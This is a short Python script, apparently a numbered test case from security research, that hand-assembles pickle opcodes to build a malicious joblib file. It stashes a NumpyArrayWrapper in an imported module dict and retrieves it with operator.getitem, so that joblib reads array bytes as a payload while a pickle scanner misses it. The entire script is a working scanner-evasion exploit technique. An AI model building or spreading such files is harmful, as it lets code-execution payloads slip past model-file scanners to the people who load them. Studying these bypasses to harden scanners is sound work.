# An unbuilt NumpyArrayWrapper is stashed in a module-level dict by a SETITEM opcode on the
# imported dict (json.decoder.BACKSLASH): the scanner drops the items, no call was given the
# wrapper, so nothing "escaped". operator.getitem(BACKSLASH, 'k') gives it back; its BUILD makes
# joblib read 40 array bytes, while for the scanner it is an unrelated call result: those bytes
# are opcodes to it (a BINSTRING over the payload).
from common import *
D = G('json.decoder','BACKSLASH')
N = 40
hdr = b'\x80\x02'
hdr += D + U('k') + G('joblib.numpy_pickle','NumpyArrayWrapper') + b'(' + G('numpy','ndarray') + I(N) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR' + b's0'
hdr += G('operator','getitem') + b'(' + D + U('k') + b'tR' + b'}b'
run('c4_global_stash_wrapper.joblib', hdr + region(N, [0]))
